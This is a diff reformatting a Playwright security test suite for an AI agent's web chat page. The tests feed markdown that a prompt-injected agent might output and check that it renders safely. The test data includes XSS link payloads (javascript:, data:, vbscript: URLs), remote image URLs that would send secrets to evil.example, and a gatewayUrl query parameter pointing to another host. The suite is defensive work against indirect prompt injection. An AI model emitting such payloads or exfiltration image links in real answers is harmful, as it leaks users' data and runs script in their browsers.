@@ -12,10 +12,19 @@ let open: TestHost
 let locked: TestHost
 let victim: Tab
 beforeAll(async () => {
-  [browser, built] = await Promise.all([launchBrowser(), builtPage()])
+  ;[browser, built] = await Promise.all([launchBrowser(), builtPage()])
   const plugins = { webchat: { page_dir: built.folder } }
-  ;[open, locked] = await Promise.all([startHost({ config: { plugins } }), startHost({ config: { api_key: key, plugins } })])
-  victim = await openTab(browser, open.url, { before: async (page) => { await page.addInitScript(() => { Object.assign(window, { hit: 0 }) }) } })
+  ;[open, locked] = await Promise.all([
+    startHost({ config: { plugins } }),
+    startHost({ config: { api_key: key, plugins } }),
+  ])
+  victim = await openTab(browser, open.url, {
+    before: async (page) => {
+      await page.addInitScript(() => {
+        Object.assign(window, { hit: 0 })
+      })
+    },
+  })
   await victim.page.getByText('Connected', { exact: true }).waitFor()
 })
 afterAll(async () => {
@@ -24,13 +33,20 @@ afterAll(async () => {
 })
 
 /** Makes the agent say something, as a poisoned page it read would. One tab for all: each answer must leave it whole for the next. */
-async function answered(markdown: string, check: (tab: Tab, answer: ReturnType<Page['locator']>) => Promise<void>): Promise<void> {
+async function answered(
+  markdown: string,
+  check: (tab: Tab, answer: ReturnType<Page['locator']>) => Promise<void>,
+): Promise<void> {
   const seen = victim.complaints.length
   await victim.say(`echo ${markdown}`)
   const answer = victim.page.locator('.answer').last().locator('.prose')
   await check(victim, answer)
   expect(await victim.page.evaluate('window.hit')).toBe(0)
-  expect(await answer.locator('script, iframe, object, embed, style, form, svg, math, base, meta, link, template, video, audio').count()).toBe(0)
+  expect(
+    await answer
+      .locator('script, iframe, object, embed, style, form, svg, math, base, meta, link, template, video, audio')
+      .count(),
+  ).toBe(0)
   expect(victim.complaints.slice(seen)).toEqual([])
 }
 
@@ -55,10 +71,20 @@ test.each([
 })
 
 test.each([
-  '[x](javascript:window.hit++)', '[x](JaVaScRiPt:window.hit++)', '[x](java\tscript:window.hit++)', '[x](&#106;avascript:window.hit++)', '<javascript:window.hit++>',
-  '[x](data:text/html,<script>parent.hit++</script>)', '[x](vbscript:x)', '[x](//evil.example/x)', '[x](/api/shutdown)', '[a]\n\n[a]: javascript:window.hit++',
+  '[x](javascript:window.hit++)',
+  '[x](JaVaScRiPt:window.hit++)',
+  '[x](java\tscript:window.hit++)',
+  '[x](&#106;avascript:window.hit++)',
+  '<javascript:window.hit++>',
+  '[x](data:text/html,<script>parent.hit++</script>)',
+  '[x](vbscript:x)',
+  '[x](//evil.example/x)',
+  '[x](/api/shutdown)',
+  '[a]\n\n[a]: javascript:window.hit++',
 ])('a link that is no web address is no link: %s', async (markdown) => {
-  await answered(markdown, async (_tab, answer) => { expect(await answer.locator('a').count()).toBe(0) })
+  await answered(markdown, async (_tab, answer) => {
+    expect(await answer.locator('a').count()).toBe(0)
+  })
 })
 
 test('a web link opens apart from the page, and tells the other side nothing about it', async () => {
@@ -72,10 +98,17 @@ test('a web link opens apart from the page, and tells the other side nothing abo
 })
 
 test.each([
-  '![x](https://evil.example/log?secret=1)', '![x](http://127.0.0.1:9/log)', '[![x](https://evil.example/log)](https://evil.example)',
-  '![x][r]\n\n[r]: https://evil.example/log', '<img src="https://evil.example/log">', '![x](data:image/svg+xml;base64,PHN2Zy8+)', '![x](//evil.example/log)',
+  '![x](https://evil.example/log?secret=1)',
+  '![x](http://127.0.0.1:9/log)',
+  '[![x](https://evil.example/log)](https://evil.example)',
+  '![x][r]\n\n[r]: https://evil.example/log',
+  '<img src="https://evil.example/log">',
+  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
+  '![x](//evil.example/log)',
 ])('an image from elsewhere is not loaded: %s', async (markdown) => {
-  await answered(markdown, async (_tab, answer) => { expect(await answer.locator('img').count()).toBe(0) })
+  await answered(markdown, async (_tab, answer) => {
+    expect(await answer.locator('img').count()).toBe(0)
+  })
 })
 
 test('Indirect injection -> exfil by image: a remote image is named with its host, so that the reader may decide', async () => {
@@ -85,9 +118,12 @@ test('Indirect injection -> exfil by image: a remote image is named with its hos
 })
 
 test('an embedded picture is shown', async () => {
-  await answered('![dot](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)', async (_tab, answer) => {
-    expect(await answer.locator('img').getAttribute('alt')).toBe('dot')
-  })
+  await answered(
+    '![dot](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)',
+    async (_tab, answer) => {
+      expect(await answer.locator('img').getAttribute('alt')).toBe('dot')
+    },
+  )
 })
 
 test('what a person writes is shown as written', async () => {
@@ -99,7 +135,9 @@ test('what a person writes is shown as written', async () => {
 })
 
 test('Gateway URL from query string: an address of another daemon in the URL is not followed', async () => {
-  await using tab = await openTab(browser, open.url, { path: '/?gatewayUrl=ws://evil.example&url=https://evil.example&server=//evil.example&token=x#https://evil.example' })
+  await using tab = await openTab(browser, open.url, {
+    path: '/?gatewayUrl=ws://evil.example&url=https://evil.example&server=//evil.example&token=x#https://evil.example',
+  })
   await tab.page.getByText('Connected', { exact: true }).waitFor()
   expect(await tab.say('echo still here')).toContain('still here')
   expect(tab.complaints).toEqual([])
@@ -110,8 +148,12 @@ test('a locked daemon asks for its key, refuses a wrong one, and takes the right
   const urls: string[] = []
   await using tab = await openTab(browser, locked.url, {
     before: async (page) => {
-      page.on('websocket', (socket) => { sockets.push(socket.url()) })
-      page.on('request', (request) => { urls.push(request.url()) })
+      page.on('websocket', (socket) => {
+        sockets.push(socket.url())
+      })
+      page.on('request', (request) => {
+        urls.push(request.url())
+      })
     },
   })
   const field = tab.page.getByLabel('API key')
@@ -135,9 +177,18 @@ test('the key is in memory only: not in storage, cookies, history or the documen
   await tab.page.getByLabel('API key').fill(key)
   await tab.page.keyboard.press('Enter')
   await tab.page.getByText('Connected', { exact: true }).waitFor()
-  const kept = await tab.page.evaluate(async () => JSON.stringify([
-    { ...localStorage }, { ...sessionStorage }, document.cookie, history.state, location.href, document.documentElement.outerHTML, await indexedDB.databases(), await caches.keys(),
-  ]))
+  const kept = await tab.page.evaluate(async () =>
+    JSON.stringify([
+      { ...localStorage },
+      { ...sessionStorage },
+      document.cookie,
+      history.state,
+      location.href,
+      document.documentElement.outerHTML,
+      await indexedDB.databases(),
+      await caches.keys(),
+    ]),
+  )
   expect(kept).not.toContain(key)
   await tab.page.reload()
   await tab.page.getByLabel('API key').waitFor()
